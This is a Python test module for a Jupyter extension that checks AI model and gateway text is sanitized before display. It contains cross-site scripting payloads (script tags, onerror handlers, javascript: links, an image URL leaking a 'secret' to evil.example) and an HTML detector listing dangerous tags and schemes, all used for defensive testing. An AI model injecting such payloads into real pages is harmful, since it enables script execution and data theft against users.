"""Model and gateway text is untrusted: payloads pushed through every display mode and format,
live and final, ``--no-stream``, replayed from a ledger, object views, ``%koine health`` from a
hostile gateway — in a real kernel, asserting on every MIME bundle and widget state message it
publishes, and on an nbconvert HTML export of those outputs."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import nbformat
import pytest
from _kernels import kernel_env, new_notebook
from hypothesis import given, settings
from hypothesis import strategies as st
from jupyter_client.manager import start_new_kernel
from test_magic_kernel import Kernel, of_type

from koine_jupyter.views._untrusted import clean_html, markdown_html

# Each payload on its own paragraph, so blocks finish while the answer streams.
PAYLOADS = (
    "<img src=x onerror=\"window.koinePwned='img'\">",
    "<script>window.koinePwned='script'</script>",
    "<a href=\"javascript:window.koinePwned='a'\">html link</a>",
    "[md link](javascript:window.koinePwned='md')",
    "![remote](http://evil.example/leak.png?secret=1)",
    "**bold** and a [good link](https://example.org/) kept",
)
PROMPT = "\n\n".join(PAYLOADS)
_DANGEROUS_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "form", "input", "style", "link", "meta", "base"}
)
_URL_ATTRS = frozenset({"href", "src", "action", "formaction", "xlink:href", "srcset"})


class _Active(HTMLParser):
    """Finds what could run or load by itself in an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.scripts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.scripts.append(json.dumps(sorted((k, v or "") for k, v in attrs)))
        elif tag in _DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=>")
            if name in _URL_ATTRS and value:
                parts = urlsplit(value)
                if parts.scheme.lower() not in ("", "http", "https", "mailto"):
                    self.found.append(f"<{tag} {name}={value}>")
                if tag == "img" and name == "src" and (parts.scheme or parts.netloc):
                    self.found.append(f"remote image {value}")
            if name == "style" and ("position" in value or "url(" in value):
                self.found.append(f"<{tag} style={value}>")


# pandas' own stylesheet of a DataFrame's HTML (fixed rules, no model text: pandas escapes the
# cells), the one <style> a published bundle may hold (``%koine history`` is a DataFrame).
_PANDAS_STYLE = re.compile(r"<style scoped(?:=\"\")?>\s*\.dataframe [^<]*</style>")


def active(fragment: str) -> list[str]:
    parser = _Active()
    parser.feed(_PANDAS_STYLE.sub("", fragment))
    parser.close()
    return parser.found + [f"<script {s}>" for s in parser.scripts]


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():  # pyright: ignore[reportUnknownVariableType]
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:  # pyright: ignore[reportUnknownVariableType]
            yield from _strings(v)


def published(msgs: list[dict[str, Any]]) -> Iterator[tuple[str, str, str]]:
    """(message type, MIME type or widget state key, text) of everything a frontend renders."""
    for m in msgs:
        kind = m["msg_type"]
        content = m["content"]
        if kind in ("display_data", "update_display_data", "execute_result"):
            for mime, value in content["data"].items():
                for text in _strings(value):
                    yield kind, mime, text
        elif kind in ("comm_open", "comm_msg"):
            state = content.get("data", {}).get("state", {})
            for key, value in state.items():
                for text in _strings(value):
                    yield kind, key, text


def assert_inert(msgs: list[dict[str, Any]], rich: bool = True) -> None:
    """No published bundle or widget state carries an active payload; model text never goes
    out as ``text/markdown`` (frontends render raw HTML inside Markdown)."""
    seen = 0
    for kind, mime, text in published(msgs):
        seen += 1
        assert mime != "text/markdown", (kind, text[:200])
        if mime == "text/plain":
            continue  # shown as text by every frontend: it stays as it is
        bad = active(text)
        assert not bad, (kind, mime, bad, text[:500])
    assert seen or not rich


@pytest.fixture(scope="module")
def kernel(koine_gateway_server: Any) -> Iterator[Kernel]:
    km, kc = start_new_kernel(kernel_name="python3", env=kernel_env(koine_gateway_server))
    k = Kernel(km, kc)
    _, reply = k.run("%load_ext koine_jupyter")
    assert reply["content"]["status"] == "ok"
    yield k
    kc.stop_channels()
    km.shutdown_kernel(now=True)


# Everything published by the tests of this module, for the nbconvert export at the end.
_OUTPUTS: list[dict[str, Any]] = []


def _run(kernel: Kernel, code: str) -> list[dict[str, Any]]:
    msgs, reply = kernel.run(code, timeout=60)
    assert reply["content"]["status"] == "ok", reply["content"]
    _OUTPUTS.extend(m for m in msgs if m["msg_type"] != "status")
    return msgs


def test_the_renderer_keeps_markdown_and_escapes_html() -> None:
    html = markdown_html(PROMPT + "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```")
    assert not active(html), html
    assert "&lt;img src=x onerror=" in html  # the payload reads as text
    assert "<strong>bold</strong>" in html and "<table>" in html and "<pre" in html
    assert '<a href="https://example.org/"' in html
    assert '<a href="http://evil.example/leak.png?secret=1"' in html  # an image as a link


_PIECES = st.sampled_from(
    [
        "<", ">", "<img src=x onerror=alert(1)>", "<script>", "</script>", "<svg onload=1>",
        "<a href='javascript:x'>", "javascript:", "JaVa&#115;cript:", "&#x6a;avascript:",
        "[t](", ")", "](", "![i](", "http://e.example/p.png", "<iframe>", '"', "'", "`",
        "```", "\n", "\n\n", " ", "x", "<style>", "style=position:fixed", "&lt;", "&", "*",
        "<form action=x>", "vbscript:", "data:text/html,", "onerror=", "//e.example/i.png",
    ]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=40).map("".join))
@settings(max_examples=300, deadline=None)
def test_any_mix_of_payload_pieces_renders_inert(text: str) -> None:
    assert not active(markdown_html(text))
    assert not active(clean_html(text))


def test_html_format_is_sanitized_keeping_text_markup() -> None:
    dirty = (
        '<div style="position:fixed;top:0;color:red" onclick="x()"><b>kept</b>'
        '<iframe src="https://evil.example"></iframe><form action="/x"><input></form>'
        '<svg><script>1</script></svg><a href="javascript:1">a</a><table><tr><td>t</td></tr>'
        "</table></div>"
    )
    clean = clean_html(dirty)
    assert not active(clean), clean
    assert "<b>kept</b>" in clean and "<td>t</td>" in clean and "color:red" in clean


@pytest.mark.parametrize("mode", ["markdown", "widget", "text"])
def test_a_streamed_payload_answer_is_inert_live_and_final(kernel: Kernel, mode: str) -> None:
    msgs = _run(
        kernel, f"%%koine --display {mode} --out a_{mode}\n[[chunks=40]] [[slow=0.01]] {PROMPT}"
    )
    assert_inert(msgs, rich=mode != "text")
    if mode == "text":  # printed as plain text, as it is
        printed = "".join(m["content"]["text"] for m in of_type(msgs, "stream"))
        assert "<script>window.koinePwned='script'</script>" in printed
    else:
        (result,) = of_type(msgs, "execute_result")
        html = result["content"]["data"]["text/html"]
        assert "&lt;script&gt;" in html and "<strong>bold</strong>" in html
    if mode == "widget":
        assert of_type(msgs, "comm_msg")  # the widget state messages were checked too


@pytest.mark.parametrize("fmt", ["markdown", "html", "code", "json", "text"])
def test_every_format_is_inert(kernel: Kernel, fmt: str) -> None:
    assert_inert(_run(kernel, f"%%koine --format {fmt} --display markdown\n{PROMPT}"))
    assert_inert(_run(kernel, f"%%koine --format {fmt} --no-stream\n{PROMPT}"))


def test_the_line_magic_and_a_stored_answer_are_inert(kernel: Kernel) -> None:
    msgs = _run(kernel, "%koine <img src=x onerror=alert(1)> [x](javascript:alert(1))")
    assert_inert(msgs)
    # an answer shown again as a value (a saved variable in a later cell)
    assert_inert(_run(kernel, "a_markdown"))


def test_a_replayed_answer_is_inert(kernel: Kernel, tmp_path: Path) -> None:
    ledger = tmp_path / "ledger.sqlite"
    _run(kernel, f"%koine replay record --ledger {ledger}")
    _run(kernel, f"%%koine\n{PROMPT}")
    _run(kernel, "%koine replay strict")
    try:
        for mode in ("markdown", "widget"):
            msgs = _run(kernel, f"%%koine --display {mode}\n{PROMPT}")
            (result,) = of_type(msgs, "execute_result")
            assert result["content"]["metadata"]["koine"]["source"] == "replay"
            assert_inert(msgs)
    finally:
        _run(kernel, "%koine replay off")


def test_object_views_are_inert_and_cap_their_depth(kernel: Kernel) -> None:
    setup = (
        "from koine_jupyter.views import ObjectView, FrameView\n"
        f"payloads = {list(PAYLOADS)!r}\n"
        "deep = {'leaf': payloads[0]}\n"
        "for _ in range(3000):\n"
        "    deep = {'k': [deep], payloads[1]: payloads[2]}\n"
    )
    _run(kernel, setup)
    for mode in ("markdown", "widget"):
        code = (
            f"v = ObjectView(display={mode!r})\n"
            "v.start()\n"
            "v.update({'a': payloads, 'deep': deep})\n"
            "v._flush()\n"
            "v.finish({'a': payloads, 'deep': deep, 'z': 1})\n"
            f"f = FrameView(display={mode!r})\n"
            "f.start()\n"
            "f.update([{'x': p, 'deep': deep} for p in payloads])\n"
            "_ = f.finish([{'x': p, 'deep': deep} for p in payloads])\n"
        )
        msgs = _run(kernel, code)
        assert_inert(msgs)
        texts = [t for _, mime, t in published(msgs) if mime != "text/plain"]
        assert any("nested deeper than" in t for t in texts)


class _Hostile(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps(
            {
                "status": "<img src=x onerror=\"window.koinePwned='health'\">",
                "claude_cli": "<script>window.koinePwned=1</script> [x](javascript:alert(1))",
                "concurrency": {
                    "streaming": {"active": 0, "limit": 3},
                    "non_streaming": {"active": 0, "limit": 3},
                },
            }
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def hostile() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_health_status_and_history_from_a_hostile_gateway_are_inert(
    kernel: Kernel, hostile: str, koine_gateway_server: Any
) -> None:
    _run(kernel, f"%koine connect {hostile}")
    try:
        msgs = _run(kernel, "%koine health")
        assert_inert(msgs)
        (result,) = of_type(msgs, "execute_result")
        assert "&lt;img src=x" in result["content"]["data"]["text/html"]
        assert_inert(_run(kernel, "%koine status") + _run(kernel, "%koine history"))
    finally:
        _run(kernel, f"%koine connect {koine_gateway_server.base_url}")


def test_line_magic_fills_references_once(kernel: Kernel) -> None:
    """A variable's text that looks like a reference is sent as text, never resolved (IPython's
    own expansion of the line is off: ours is the only pass)."""
    _run(kernel, "secret = 'S3CRET'\ntrap = '{secret} and {os.environ[\"KOINE_AUTH_KEY\"]}'")
    msgs = _run(kernel, "%koine --out r1 about {trap} $secret")
    (result,) = of_type(msgs, "execute_result")
    assert "S3CRET" not in json.dumps(result["content"])
    _, ok = kernel.run(
        "assert r1.text == 'Echo: about {secret} and {os.environ[\"KOINE_AUTH_KEY\"]} $secret',"
        " r1.text"
    )
    assert ok["content"]["status"] == "ok", ok["content"]
    # an earlier answer passed on is sent as its text too
    _run(kernel, "%koine --out r2 follow up on {r1}")
    _, ok = kernel.run("assert 'S3CRET' not in r2.text and '{secret}' in r2.text, r2.text")
    assert ok["content"]["status"] == "ok", ok["content"]


def _export(outputs: list[Any]) -> str:
    from nbconvert import HTMLExporter

    nb = new_notebook([""])
    nb.cells[0].outputs = outputs
    body, _ = HTMLExporter().from_notebook_node(nb)
    return body


def test_an_nbconvert_export_of_the_outputs_has_no_live_handler() -> None:
    """Runs last in this module: every output published above, saved as a notebook would save
    it, exported to HTML. Apart from nbconvert's own template scripts (the same as for an
    empty notebook) nothing in it runs or loads by itself."""
    kinds = ("display_data", "update_display_data", "execute_result", "stream", "error")
    outputs: list[Any] = []
    for m in _OUTPUTS:
        if m["msg_type"] in kinds:
            if m["msg_type"] == "update_display_data":  # a saved display's (last) state
                content = m["content"]
                outputs.append(
                    nbformat.v4.new_output(
                        "display_data", data=content["data"], metadata=content["metadata"]
                    )
                )
            else:
                outputs.append(nbformat.v4.output_from_msg(m))
    if not outputs:
        pytest.skip("run with the rest of this module")
    html = [o["data"]["text/html"] for o in outputs if "text/html" in o.get("data", {})]
    assert any("&lt;script&gt;" in h for h in html)
    baseline, exported = _Active(), _Active()
    baseline.feed(_PANDAS_STYLE.sub("", _export([])))
    exported.feed(_PANDAS_STYLE.sub("", _export(outputs)))
    assert exported.scripts == baseline.scripts  # nbconvert's template scripts only
    assert exported.found == baseline.found, exported.found


def test_widget_mode_swaps_to_the_answer_without_an_empty_moment(kernel: Kernel) -> None:
    """The live view keeps the answer until the cell's result (the same answer) is out; only
    then does it fold to its status line. Before the result, no message empties the view."""
    words = " ".join(f"w{i}" for i in range(40))
    msgs = _run(kernel, f"%%koine --display widget\n[[chunks=20]] [[slow=0.01]] {words}")
    at = msgs.index(of_type(msgs, "execute_result")[0])

    def states(part: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [m["content"]["data"].get("state", {}) for m in of_type(part, "comm_msg")]

    before, after = states(msgs[:at]), states(msgs[at:])
    assert any("Echo: w0" in s.get("value", "") for s in before)  # it streamed
    # nothing before the result removes the answer: no folded box, no status-only value
    assert not [s for s in before if "children" in s], before
    assert not [s for s in before if "✓" in s.get("value", "")], before
    # after it, the view folds to its final status line
    assert any(len(s.get("children", [])) == 1 for s in after), after
    assert any("✓" in s.get("value", "") and "Echo" not in s.get("value", "") for s in after)


def test_remote_images_load_only_when_opted_in(monkeypatch: pytest.MonkeyPatch) -> None:
    from IPython.testing.globalipapp import start_ipython

    from koine_jupyter.views import _untrusted

    image = "![chart](https://example.org/chart.png)"
    assert "<img" not in markdown_html(image)
    assert '<img src="relative/chart.png"' in markdown_html("![c](relative/chart.png)")
    monkeypatch.setenv(_untrusted.ENV_REMOTE_IMAGES, "1")
    assert '<img src="https://example.org/chart.png" alt="chart">' in markdown_html(image)
    assert '<img src="https://example.org/x.png">' in clean_html(
        '<img src="https://example.org/x.png" onerror="x()">'
    )
    monkeypatch.delenv(_untrusted.ENV_REMOTE_IMAGES)
    ip: Any = start_ipython()
    ip.run_line_magic("load_ext", "koine_jupyter")
    try:
        ip.run_line_magic("config", "KoineMagics.remote_images = True")
        assert "<img" in markdown_html(image)
        ip.run_line_magic("config", "KoineMagics.remote_images = False")
        assert "<img" not in markdown_html(image)
        # javascript: stays out whatever the setting
        assert not active(markdown_html("![x](javascript:alert(1))"))
    finally:
        ip.run_line_magic("config", "KoineMagics.remote_images = None")
